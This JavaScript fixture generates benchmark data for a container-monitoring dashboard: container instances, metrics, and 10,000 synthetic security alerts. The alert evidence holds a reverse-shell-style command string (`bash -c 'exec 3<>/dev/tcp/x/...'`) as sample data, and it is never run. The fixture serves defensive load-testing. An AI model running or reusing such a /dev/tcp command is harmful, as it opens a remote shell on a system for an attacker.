// The dashboard's bench data, in plain JS so that both bench/tui.ts (through tsx, on src/) and the
// RSS child (plain node, on the compiled dist/) build the same store. Types: _tui-fixture.d.mts.

export const ALERTS = 10_000;
const LEVELS = ['info', 'warning', 'high', 'critical'];

export const slotName = (w, n) => `coi-${String(w).padStart(8, 'a')}-${n}`;

/** `workspaces` × `slots` containers with metrics, and 10,000 alerts spread over them. */
export function bigStore(createTuiStore, workspaces, slots) {
  const store = createTuiStore();
  const s = store.getState();
  s.setConnection({ state: 'connected' });
  const now = Date.now();
  for (let w = 0; w < workspaces; w++) {
    for (let n = 1; n <= slots; n++) {
      s.upsertInstance({
        name: slotName(w, n),
        workspace: `/home/dev/project-${w}`,
        slot: n,
        state: n % 7 === 0 ? 'frozen' : 'running',
        frozenByThreat: false,
        tool: 'claude',
        persistent: n % 2 === 0,
        startedAt: now - n * 60_000,
      });
    }
  }
  s.setMetrics(metricsBatch(store, 0));
  s.addAlerts(
    Array.from({ length: ALERTS }, (_, i) => ({
      id: `a-${i}`,
      time: now - (ALERTS - i) * 1000,
      severity: LEVELS[i % 4],
      container: slotName(i % workspaces, (i % slots) + 1),
      slot: (i % slots) + 1,
      workspace: `/home/dev/project-${i % workspaces}`,
      title: `Connection to suspicious port #${i}`,
      description: `Outbound connection from pid ${1000 + i} to a port used by reverse shells`,
      category: 'network',
      action: 'alerted',
      evidence: {
        network: { dst_ip: `10.99.${i % 250}.${i % 200}`, dst_port: 4000 + (i % 1000) },
        process: { pid: 1000 + i, comm: 'bash', cmdline: `bash -c 'exec 3<>/dev/tcp/x/${i}'` },
      },
      acknowledged: i % 3 === 0,
    })),
  );
  return store;
}

/** One poll's metrics for every instance: every figure moves with `tick`. */
export function metricsBatch(store, tick) {
  const batch = {};
  for (const name of Object.keys(store.getState().instances)) {
    batch[name] = {
      cpuPercent: (tick * 7 + name.length) % 100,
      memoryUsedBytes: (200 + tick) * 1024 * 1024,
      memoryLimitBytes: 4 * 1024 ** 3,
      netRxBytesPerSec: tick * 1000,
      netTxBytesPerSec: tick * 100,
    };
  }
  return batch;
}
